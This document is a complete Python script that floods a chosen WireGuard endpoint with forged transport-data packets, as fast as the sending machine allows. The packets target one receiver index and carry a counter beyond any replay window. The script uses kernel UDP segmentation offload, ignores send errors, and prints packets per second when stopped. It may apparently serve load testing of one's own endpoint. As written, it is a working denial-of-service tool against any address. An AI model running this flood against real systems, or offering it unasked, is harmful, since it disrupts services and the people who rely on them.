"""A flood of WireGuard messages to one receiver index, as fast as this machine sends them: nobody can open them, and each costs who tries.

    udp_flood.py ADDRESS PORT INDEX --bytes N

SIGTERM ends it; then it prints how many datagrams it sent, and in which time. Python is fast enough because the kernel cuts each
message of 64 KB into datagrams (UDP_SEGMENT).
"""

import argparse
import json
import signal
import socket
import struct
import time

UDP_SEGMENT = 103
MAX_RUN_BYTES, MAX_SEGMENTS = 65_000, 64
SINGLES = 4
COUNTER = 1 << 32  # beyond any window


def main():
    parser = argparse.ArgumentParser(description="a flood of WireGuard messages")
    parser.add_argument("address")
    parser.add_argument("port", type=int)
    parser.add_argument("index", type=int)
    parser.add_argument("--bytes", type=int, default=256)
    options = parser.parse_args()

    running = [True]
    signal.signal(signal.SIGTERM, lambda *_: running.clear())
    datagram = struct.pack("<IIQ", 4, options.index, COUNTER).ljust(options.bytes, b"\xaa")
    run = min(MAX_RUN_BYTES // options.bytes, MAX_SEGMENTS)
    joined, single = (socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(2))
    joined.setsockopt(socket.IPPROTO_UDP, UDP_SEGMENT, options.bytes)
    for sock in (joined, single):
        sock.connect((options.address, options.port))
    message, sent, began = datagram * run, 0, time.monotonic()
    while running:
        try:
            joined.send(message)
            # Single ones take the room that a long message leaves in a full buffer.
            for _ in range(SINGLES):
                single.send(datagram)
            sent += run + SINGLES
        except OSError:
            continue  # no room, or nobody listens: a flood does not care
    seconds = time.monotonic() - began
    print(json.dumps({"sent": sent, "seconds": seconds, "per_sec": int(sent / seconds)}), flush=True)


if __name__ == "__main__":
    main()
